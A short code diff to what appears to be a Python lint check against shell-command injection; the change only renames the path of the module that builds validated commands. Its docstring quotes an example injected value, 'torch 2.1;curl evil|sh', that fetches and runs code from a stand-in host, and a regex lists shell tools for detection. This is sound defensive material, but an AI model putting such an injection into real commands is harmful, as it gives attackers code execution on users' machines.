@@ -1,4 +1,4 @@
-"""Every command for a user is a constant, or accel.contract.command builds it from validated words.
+"""Every command for a user is a constant, or accel.vendors.contract.command builds it from validated words.
 
 A text may hold  torch 2.1;curl evil|sh : a value that is put between the words of a command by an f-string reaches
 somebody's shell.
@@ -18,7 +18,7 @@ _TOOLS = re.compile(
     r"gcloud|chmod|usermod|unset|set|ulimit|lsof|fuser|cat|echo|source|ss|curl|grep|ps) "
 )
 _BUILDERS = {"command_line", "chained", "pip_install", "container_command"}
-_WORDS = "src/accel/contract/command.py"  # the one place that makes a Word
+_WORDS = "src/accel/vendors/contract/command.py"  # the one place that makes a Word
 
 
 def pasted(tree: ast.AST) -> int:
